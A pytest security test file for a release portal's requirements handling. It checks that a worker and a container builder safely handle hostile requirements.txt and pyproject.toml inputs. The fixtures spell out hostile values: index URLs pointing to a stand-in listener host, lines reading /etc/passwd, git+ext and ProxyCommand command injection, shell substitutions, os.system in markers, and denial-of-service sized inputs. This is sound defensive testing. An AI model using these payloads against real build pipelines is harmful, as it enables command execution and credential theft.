"""Hostile requirement files: the worker looks at them and opens nothing else; they are pip's, in the builder."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings as portal
from pytest_django import Settings

from releases.git import Git
from releases.jobs.environments import LARGEST_FILE
from releases.pipeline.requirements import inputs_digest
from tests.git.conftest import make_origin
from tests.hostile.test_entrances import Traps
from tests.hostile.test_entrances import traps as traps
from tests.stacks.conftest import builder as builder
from tests.stacks.conftest import docker as docker
from tests.stacks.test_build_script import SHOP, Builder
from tests.stacks.test_build_script import build as build

MIB = 1024 * 1024
FILES: dict[str, bytes] = {
    "options": b"--index-url http://LISTENER/simple\n--trusted-host LISTENER\n--extra-index-url http://a:b@LISTENER/\nflask\n",
    "a file of the machine": b"-r ../../etc/passwd\n-c /etc/passwd\n-r file:///etc/passwd\n--requirement=SECRET\n",
    "a file of another machine": b"-r http://LISTENER/more.txt\n-c http://LISTENER/c.txt\n",
    "editables": b"-e SECRET\n-e git+file://SECRET\n-e git+http://LISTENER/x.git#egg=x\n--find-links http://LISTENER/\n",
    "helpers": b"x @ git+ext::sh%20-c%20touch%20CANARY\nx @ git+ssh://-oProxyCommand=touch%20CANARY/x\n",
    "a shell": b"$(touch CANARY)\n`touch CANARY`\n; touch CANARY\n--index-url=$(touch CANARY)\n-i `touch CANARY`\n",
    "markers": b"flask; __import__('os').system('touch CANARY') == '0'\nflask; python_version > '" + b"9" * 9000,
    "NUL": b"fla\0sk\n",
    "UTF-16 without its mark": "flask\n".encode("utf-16-le"),
    "UTF-16 with half a letter": b"\xff\xfef\0l\0a",
    "a mark alone": b"\xff\xfe",
    "undecodable": b"fl\xe9sk\n\xff\xfe\n",
    "escapes": b"\x1b[31mflask\x1b[0m\n\x1b]8;;http://evil.example\x07x\n<script>alert(1)</script>\n",
    "itself": b"-r requirements.txt\n-c requirements.txt\n" * 1000,
    "a long line": b"flask" * (8 * MIB // 5 - 1),
    "many addresses in a line": b"http://a" * (MIB - 1),
    "many hashes in a line": b"git+#&#" * (MIB - 1),
    "many slashes in a line": b"a/" * (4 * MIB - 1) + b";",
    "many continued lines": b"\\\n" * (4 * MIB - 1),
    "many blanks": b"-r" + b" " * (8 * MIB - 10) + b"x",
}  # fmt: skip
PROJECTS = {
    "a thousand lists": b"[project]\nname = " + b"[" * 5000 + b"]" * 5000,
    "a number of many digits": b"[project]\nversion = " + b"9" * 6000,
    "a project that is none": b"project = 1",
    "what is dynamic is none": b"[project]\ndynamic = 1",
    "no TOML": b"\0",
}
LOOK = """
import os, sys
sys.path.insert(0, os.getcwd())
from releases.pipeline.requirements import inputs_digest
data = sys.stdin.buffer.read()
read = lambda path: data if path == sys.argv[1] else None
inputs_digest(sys.argv[1], read, commit="0" * 40, index_url="")
"""


def spelled(traps: Traps, data: bytes) -> bytes:
    return data if len(data) > MIB else traps.spelled(data.decode("latin-1")).encode("latin-1")


@pytest.mark.parametrize("what", [*FILES, *PROJECTS])
def test_worker_looks_at_it_and_is_done(what: str) -> None:
    """A pattern that goes to and fro over megabytes would hold the worker for hours, and its lease with it."""
    name = "requirements.txt" if what in FILES else "pyproject.toml"
    done = subprocess.run(
        [sys.executable, "-c", LOOK, name], input=(FILES | PROJECTS)[what], cwd=portal.BASE_DIR, timeout=120,
        capture_output=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()[-2000:]


PRINTED = """
import os, sys
sys.path.insert(0, os.getcwd())
os.environ["DJANGO_SETTINGS_MODULE"] = "portal.settings"
import django
django.setup()
from releases.pipeline import contract, probe
from releases.specs import Layout
from releases.stacks import stack
probe.missing_library("lib.so." * (probe.OUTPUT_LIMIT // 7), stack.load("python3.13-uwsgi"))
try:
    contract.check(["req" * 1300 + f"/a/{n}.txt" for n in range(500)], lambda _: None, Layout(), where="here")
except Exception as error:
    sys.exit("does not keep the contract" not in str(error))
"""


def test_worker_looks_at_what_was_printed_and_named_and_is_done() -> None:
    """The same of an application's last words, and of the names of files."""
    command = [sys.executable, "-c", PRINTED]
    done = subprocess.run(command, cwd=portal.BASE_DIR, timeout=120, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode()[-2000:]


@pytest.mark.parametrize("what", [what for what, data in FILES.items() if len(data) < MIB])
def test_worker_opens_nothing_but_files_of_the_commit(traps: Traps, settings: Settings, what: str) -> None:
    origin, opened = make_origin(traps.local, "shop"), []
    commit = origin.commit(
        "Require", {"requirements.txt": spelled(traps, FILES[what]), "etc/passwd": b"not that one\n"}
    )
    origin.push()
    git = Git.from_settings()
    git.refresh("1.git", origin.url)

    def read(path: str) -> bytes | None:
        found = git.read_file("1.git", commit, path, limit=LARGEST_FILE)
        opened.append((path, found))
        return found

    inputs_digest("requirements.txt", read, commit=commit, index_url="")
    assert {path for path, found in opened if found is not None} <= {"requirements.txt"}
    assert traps.sprung() == ""


IN_THE_BUILDER = (
    "a file of the machine",
    "editables",
    "helpers",
    "a shell",
    "markers",
    "NUL",
    "escapes",
    "a mark alone",
)


@pytest.mark.engine
def test_builder_refuses_it_with_a_sentence(build: Builder, traps: Traps) -> None:
    """It is pip's there, and reaches no further than the container does. Two of them are no mistakes to pip at all."""
    for what in IN_THE_BUILDER:
        result = build(SHOP | {"requirements.txt": spelled(traps, FILES[what])})
        assert traps.sprung() == "", what
        assert not any(Path(file).name == "canary" for file in result.files), what
        assert "geheim" not in "\n".join(result.lines), what
        assert result.status.exit_code in (0, 10, 11, 12, 17), (what, result.lines[-5:])
        if result.status.exit_code:
            assert result.lines[-1].startswith(("The requirements", "pip could not")), (what, result.lines[-1])
            assert "app.tar.gz" not in result.files, what
